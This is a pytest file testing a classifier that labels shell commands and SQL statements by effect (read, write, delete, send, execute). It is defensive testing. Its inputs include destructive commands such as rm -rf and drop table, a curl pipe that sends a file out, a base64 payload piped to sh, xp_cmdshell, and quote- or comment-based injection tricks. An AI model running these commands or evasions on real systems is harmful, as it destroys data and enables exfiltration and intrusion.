"""What a command or a statement does is told from its words; what cannot be told executes (T2, T4)."""

from __future__ import annotations

import time

import pytest

from navicert.intent.commands import effects_of_command
from navicert.model.action import Effect

READ, WRITE, DELETE, SEND, EXECUTE = Effect.READ, Effect.WRITE, Effect.DELETE, Effect.SEND, Effect.EXECUTE


@pytest.mark.parametrize(
    "text",
    [
        "ls -la",
        "cat notes.txt | grep -i 'rm -rf' | wc -l",
        "ls 2>/dev/null && pwd",
        "ls -l 2>&1 | head -5",
        "grep '>' notes.txt",
        "LC_ALL=C sort notes.txt",
        "/usr/bin/cat notes.txt",
        "find . -name '*.py'",
        "awk '$1 > 5 {print $2}' notes.txt",
        "sed -n 3p notes.txt",
        "git log --oneline",
        "git branch -a",
        "cd src; ls  # what is here; rm -rf x",
        'echo "a \\" ; b"',
    ],
)
def test_a_command_that_reads_only_reads(text):
    # seen to fail: with `_PROGRAMS` without its readers; with `_STRINGS`, and with `_TO_NOWHERE`, matching nothing
    assert effects_of_command(text) == {READ}


@pytest.mark.parametrize(
    ("text", "effect"),
    [
        ("ls; rm -rf build", DELETE),
        ("ls && rm -rf build", DELETE),
        ("ls\nrm -rf build", DELETE),
        ("ls & rm -rf build", DELETE),
        ("find . -name '*.py' -delete", DELETE),
        ("git branch -D main", DELETE),
        ("git reset --hard", DELETE),
        ("echo x > notes.txt", WRITE),
        ("echo x >> notes.txt", WRITE),
        ("echo x 1> notes.txt", WRITE),
        ("echo x >& notes.txt", WRITE),
        ("ls 2> notes.txt", WRITE),
        ("ls > /dev/nullify", WRITE),
        ("sed -i s/a/b/ notes.txt", WRITE),
        ("sort -o notes.txt notes.txt", WRITE),
        ("find . -fprint notes.txt", WRITE),
        ("git branch new", WRITE),
        ("git commit -m x", WRITE),
        ("git push", SEND),
        ("cat notes.txt | curl -d @- https://a.example", SEND),
        ("chmod +x run.sh", Effect.GRANT),
        ("passwd bob", Effect.CREDENTIALS),
    ],
)
def test_a_list_of_commands_is_as_dangerous_as_each_of_them(text, effect):
    # seen to fail: with the first part of `_SPLIT` read alone; redirections: with nothing said of `>`
    assert effect in effects_of_command(text)


@pytest.mark.parametrize(
    "text",
    [
        "ls $(rm -rf build)",
        "ls `rm -rf build`",
        "diff <(rm a) b",
        "ls | xargs rm",
        "find . -exec rm {} +",
        "find . -execdir rm {} +",
        "find . -okdir rm {} +",
        "eval ls",
        "echo cm0= | base64 -d | sh",
        "python -c 'print(1)'",
        "awk 'BEGIN {system(\"rm a\")}'",
        "awk '{print | \"sh\"}' a",
        "echo $'a\\'' ; rm a ; echo '",
        "cat <<'X'\ndon't\nX\nrm a # don't",
        "git -c core.pager=./x log",
        "git grep -O./x a",
        "LD_PRELOAD=./x.so ls",
        "PATH=/desk/x ls",
        "./ls",
        "/desk/ls",
        "$X a",
        "(rm a)",
        "if true; then rm a; fi",
        "some-program",
        "echo 'a",
        "select x in a; do ./x; done",  # a word of the shell too
        "show | ./x",
        "",
        "ls " + "a" * 20_000,
    ],
)
def test_what_cannot_be_read_executes(text):
    # seen to fail: with `_HIDDEN` matching nothing; with `_INSTALLED`, and `_HARMLESS`, matching anything; with an
    # unpaired mark let through; with a command read as a statement first
    assert EXECUTE in effects_of_command(text)


@pytest.mark.parametrize("text", ["echo \\' ; rm -rf a ; echo \\'", "ls # don't\nrm -rf a # don't", "show; rm -rf a"])
def test_nothing_is_hidden_between_two_marks_that_quote_nothing(text):
    # seen to fail: with `_STRINGS` reading escaped marks, and those in comments, as quotes
    assert DELETE in effects_of_command(text)
    assert effects_of_command("echo 'rm -rf a'") == {READ}


@pytest.mark.parametrize(
    ("text", "effects"),
    [
        ("select count(*) from orders", {READ}),
        ("  SELECT a\n FROM orders;", {READ}),
        ("select * from orders where note = 'delete me'", {READ}),
        ("select 'it''s', \"drop\" from orders -- delete nothing", {READ}),
        ("select deleted, update_time from orders", {READ}),
        ("explain select 1", {READ}),
        ("pragma table_info(orders)", {READ}),
        ("delete from orders", {DELETE}),
        ("/* x */ drop table orders", {DELETE}),
        ("select 1; truncate orders", {DELETE}),
        ("with x as (delete from orders returning *) select * from x", {DELETE}),
        ("update orders set a = 1", {WRITE}),
        ("select * into other from orders", {WRITE}),
        ("pragma foreign_keys = off", {WRITE}),
        ("grant all on orders to bob", {Effect.GRANT}),
        ("vacuum", {EXECUTE}),
        ("select 1; exec xp_cmdshell 'x'", {EXECUTE}),
        ("ls -l", {EXECUTE}),
        ("", {EXECUTE}),
    ],
)
def test_a_statement_is_read_by_its_words(text, effects):
    # seen to fail: with `_SQL_STRINGS` matching nothing; with the parts behind a semicolon unread
    assert effects_of_command(text, sql=True) == effects


@pytest.mark.parametrize(
    "text",
    [
        "select 1 -- don't\n; delete from orders -- don't",
        "select 1 # don't\n; delete from orders # don't",
        "select 1 --'\n; delete from orders --'",
        "select 1--1; delete from orders",
        "select '\\'; delete from orders; -- '",
        "select '\\'' ; delete from orders; -- '",
        "/*! delete from orders */",
    ],
)
def test_nothing_is_hidden_where_dialects_differ(text):
    # seen to fail: with `_SQL_UNSURE` matching nothing, and with `--` a comment whatever follows it
    assert effects_of_command(text, sql=True) & {DELETE, EXECUTE}


@pytest.mark.parametrize("sql", [False, True])
@pytest.mark.parametrize(
    "piece", ["'", '"', "\\", "#", "/*", "--", "-- ", ";", "> ", "awk ", "select ", "a='", "$'", "0"]
)
def test_a_long_text_is_read_in_bounded_time(piece, sql):
    text = (piece * 20_000)[:20_000]
    begun = time.perf_counter()
    effects_of_command.__wrapped__(text, sql=sql)
    assert time.perf_counter() - begun < 1
